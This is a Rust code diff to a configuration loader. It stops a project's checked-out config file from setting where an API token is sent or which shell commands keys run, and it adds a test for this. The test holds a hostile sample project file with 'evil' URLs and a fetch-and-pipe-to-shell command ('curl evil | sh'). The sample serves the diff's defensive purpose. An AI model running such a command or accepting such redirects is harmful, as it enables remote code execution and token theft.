@@ -137,6 +137,14 @@ const ALIASES: &[(&str, &str)] = &[
     ("RESTART_COOLDOWN", "cooldown_seconds"),
 ];
 
+/// What the file of a project may not say, and of what that is the user's own word: it comes with a checkout.
+const PRIVATE: &[(&str, &str, &str)] = &[
+    ("issues", "api", "where your token goes"),
+    ("issues", "host", "where your token goes"),
+    ("issues", "url", "where your token goes"),
+    ("tui", "commands", "what a key runs"),
+];
+
 /// What is wrong with a part of the configuration; the rest still counts.
 #[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
 #[error("{origin}: {message}")]
@@ -180,20 +188,26 @@ pub struct Loaded {
 }
 
 impl Loaded {
-    /// Reads the files that exist, in order, then `DOGWATCH_SECTION__KEY` variables. A layer with a fault is left out.
-    pub fn read(files: &[PathBuf], env: impl IntoIterator<Item = (String, String)>) -> Self {
+    /// Reads the files that exist, the user's own and then the project's, and `DOGWATCH_SECTION__KEY` variables. A layer
+    /// with a fault is left out, and so is what the project's file may not say.
+    pub fn read(
+        own: Option<&Path>,
+        project: Option<&Path>,
+        env: impl IntoIterator<Item = (String, String)>,
+    ) -> Self {
         let mut loaded = Self::default();
         let mut joined = Table::new();
-        for file in files {
+        for file in own.into_iter().chain(project) {
             let text = match std::fs::read_to_string(file) {
                 Ok(text) => text,
                 Err(error) if error.kind() == std::io::ErrorKind::NotFound => continue,
                 Err(error) => {
-                    loaded.fault(Origin::File(file.clone()), format!("cannot be read: {error}"));
+                    loaded.fault(Origin::File(file.into()), format!("cannot be read: {error}"));
                     continue;
                 }
             };
-            loaded.layer(&mut joined, &text, &Origin::File(file.clone()));
+            let withheld = if Some(file) == project { PRIVATE } else { &[] };
+            loaded.layer(&mut joined, &text, (&Origin::File(file.into()), withheld));
         }
         let env: Vec<_> = env.into_iter().collect();
         loaded.aliases(&mut joined, &env);
@@ -211,7 +225,7 @@ impl Loaded {
             let is_toml = format!("x = {value}").parse::<Table>().is_ok();
             let value = if is_toml { value } else { Value::String(value).to_string() };
             let text = format!("[{section}]\n{key} = {value}\n");
-            loaded.layer(&mut joined, &text, &Origin::Environment(name));
+            loaded.layer(&mut joined, &text, (&Origin::Environment(name), &[]));
         }
         match joined.try_into() {
             Ok(config) => loaded.config = config,
@@ -233,12 +247,17 @@ impl Loaded {
                 (_, value) => value.trim_end_matches('s').to_owned(),
             };
             let text = format!("[watchdog]\n{key} = {value}\n");
-            self.layer(joined, &text, &Origin::Environment((*name).to_owned()));
+            self.layer(joined, &text, (&Origin::Environment((*name).to_owned()), &[]));
         }
     }
 
-    /// Adds one layer if it is sound by itself.
-    fn layer(&mut self, joined: &mut Table, text: &str, origin: &Origin) {
+    /// Adds one layer if it is sound by itself, without what is `withheld` from it.
+    fn layer(
+        &mut self,
+        joined: &mut Table,
+        text: &str,
+        (origin, withheld): (&Origin, &[(&str, &str, &str)]),
+    ) {
         // Checked alone first: the error then shows line, caret and the known keys of this very file.
         if let Err(error) = toml::from_str::<Config>(text) {
             self.fault(origin.clone(), error.to_string().trim_end().to_owned());
@@ -248,6 +267,16 @@ impl Loaded {
         rename(&mut table, "github", "issues");
         if let Some(Value::Table(issues)) = table.get_mut("issues") {
             rename(issues, "issue", "form");
+        }
+        for (section, key, what) in withheld {
+            let Some(Value::Table(inner)) = table.get_mut(*section) else { continue };
+            if inner.remove(*key).is_some() {
+                let told = format!(
+                    "{section}.{key} is passed over: only you may say {what}; move it into your own file, which \
+                     `dogwatch config path` names"
+                );
+                self.fault(origin.clone(), told);
+            }
         }
         self.note("", &table, origin);
         merge(joined, table);
@@ -310,12 +339,38 @@ mod tests {
             ("DOGWATCH_GITHUB__REPOSITORY".to_owned(), "a/b".to_owned()),
             ("OTHER".to_owned(), "x".to_owned()),
         ];
-        let loaded = Loaded::read(&[user, project.clone()], env);
+        let loaded = Loaded::read(Some(&user), Some(&project), env);
         assert_eq!(loaded.faults, []);
         assert_eq!(loaded.config.engine.tail, 6);
         assert_eq!(loaded.config.engine.verify_seconds, 8);
         assert_eq!(loaded.config.issues.repository.as_deref(), Some("a/b"));
         assert_eq!(loaded.origins["engine.tail"], Origin::File(project));
+    }
+
+    #[test]
+    fn the_file_of_a_project_says_neither_where_a_token_goes_nor_what_a_key_runs() {
+        let folder = tempfile::tempdir().unwrap();
+        let user = folder.path().join("config.toml");
+        let project = project_file(folder.path());
+        fs::write(&user, "[issues]\nurl = \"https://git.mine\"\n").unwrap();
+        let theirs = "[github]\nurl = \"https://evil\"\napi = \"https://evil\"\nhost = \"evil\"\n\
+                      repository = \"a/b\"\n[tui.commands]\nlogs = \"curl evil | sh\"\n";
+        fs::write(&project, theirs).unwrap();
+        let loaded = Loaded::read(Some(&user), Some(&project), []);
+        let Config { issues, tui, .. } = &loaded.config;
+        assert_eq!(issues.url.as_deref(), Some("https://git.mine"));
+        assert_eq!((&issues.api, &issues.host), (&None, &None));
+        assert_eq!(issues.repository.as_deref(), Some("a/b"));
+        assert!(tui.commands.is_empty());
+        let told: Vec<_> = loaded.faults.iter().map(ToString::to_string).collect();
+        assert_eq!(told.len(), 4, "{told:#?}");
+        for part in ["issues.api", "issues.host", "issues.url", "tui.commands"] {
+            let is_told = |t: &String| t.contains(".dogwatch.toml: ") && t.contains(part);
+            assert!(told.iter().any(is_told), "{part}: {told:#?}");
+        }
+        // The user's own file may say all of it.
+        let loaded = Loaded::read(Some(&project), None, []);
+        assert_eq!((loaded.faults.len(), loaded.config.tui.commands.len()), (0, 1));
     }
 
     #[test]
@@ -325,7 +380,7 @@ mod tests {
         let project = project_file(folder.path());
         fs::write(&user, "[engine]\ntial = 5\n").unwrap();
         fs::write(&project, "[engine]\ntail = 6\n").unwrap();
-        let loaded = Loaded::read(&[user.clone(), project], []);
+        let loaded = Loaded::read(Some(&user), Some(&project), []);
         let [fault] = &loaded.faults[..] else { panic!("{:?}", loaded.faults) };
         assert_eq!(fault.origin, Origin::File(user));
         for part in ["line 2", "tial", "tail"] {
@@ -338,7 +393,7 @@ mod tests {
     fn variables_of_other_watchdogs_are_understood() {
         let env = |pairs: &[(&str, &str)]| {
             let own = |(k, v): &(&str, &str)| ((*k).to_owned(), (*v).to_owned());
-            Loaded::read(&[], pairs.iter().map(own).collect::<Vec<_>>())
+            Loaded::read(None, None, pairs.iter().map(own).collect::<Vec<_>>())
         };
         let loaded = env(&[
             ("AUTOHEAL_INTERVAL", "5"),
